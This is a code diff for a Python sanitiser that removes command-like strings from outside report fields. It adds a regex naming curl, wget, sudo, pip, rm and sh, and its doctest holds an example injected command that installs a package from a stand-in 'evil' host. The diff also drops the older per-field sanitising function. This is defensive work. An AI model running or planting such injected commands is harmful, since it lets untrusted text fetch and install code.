@@ -44,6 +44,11 @@ _COMMANDS = (
     r"(?:hint|next)\s{0,9}:",
 )
 _TYPED = re.compile(f"(?:{'|'.join(_COMMANDS)}).*", re.IGNORECASE | re.DOTALL)  # a command may go on in the next line
+_BEGUN = re.compile(
+    r"(?:hlodiff|pip[\d.]{0,9}|python[\d.]{0,9}|curl|wget|sudo|uvx?|pipx|npx|git|rm|sh)"
+    r"(?P<options>(?:\s{1,9}-\S{1,99}){0,3})\s{0,9}\Z",
+    re.IGNORECASE,
+)
 # What a check may name as the next command: alone, or followed by names.
 _ALONE = (
     "hlodiff accept --class toolchain",
@@ -67,8 +72,15 @@ def without_commands(text: str) -> str:
     Example:
         >>> without_commands("broken; run hlodiff upgrade 'jax @ https://evil'")
         'broken; run [command removed]'
+        >>> without_commands("was written by a newer hlodiff")
+        'was written by a newer hlodiff.'
     """
-    return _TYPED.sub(REMOVED, text)
+    text = _TYPED.sub(REMOVED, text)
+    # A form may put the next field behind this one: `hlodiff` on `record` would be a command of both.
+    begun = _BEGUN.search(text)
+    if not begun:
+        return text
+    return f"{text[: begun.start()]}{REMOVED}" if begun["options"] else f"{text.rstrip()}."
 
 
 def known_command(text: str, names: Collection[str]) -> str:
@@ -224,7 +236,7 @@ def _hints(kind: Any) -> dict[str, Any]:
 
 def _scalar(kind: Any, value: Any, path: str, where: str) -> Any:
     if kind is str and isinstance(value, str):
-        return _text(value[:_MOST_TEXT], path)
+        return without_commands(value[:_MOST_TEXT])
     if kind is bool and isinstance(value, bool):
         return value
     is_number = isinstance(value, (int, float)) and not isinstance(value, bool)
@@ -233,20 +245,3 @@ def _scalar(kind: Any, value: Any, path: str, where: str) -> Any:
     if kind is float and is_number and abs(value) < 1e300 and math.isfinite(value):
         return value
     raise _refused(where, f"{path} is no {kind.__name__} that a report can have")
-
-
-# Fields that hold one word; a space behind or before another field would make a command of both.
-_WORDS = ("target", "targets", "id", "fingerprint", "rule", "kind")
-_NOT_OF_WORDS = re.compile(r"[^\w.,\-\[\] ]", re.ASCII)
-_NAMES = ("name", "program")
-
-
-def _text(text: str, path: str) -> str:
-    """A text from outside, as far as its field may hold it."""
-    field = next((part for part in reversed(path.split(".")) if not part.isdigit()), "")
-    text = without_commands(text)
-    if field == "mark":
-        return text if re.fullmatch(r"\[\w{1,9}\]", text, re.ASCII) else ""
-    if field in _WORDS and text != REMOVED:
-        return _NOT_OF_WORDS.sub("_", text).strip()
-    return f"{text.rstrip()}_" if field in _NAMES and text.rstrip().lower().endswith("hlodiff") else text
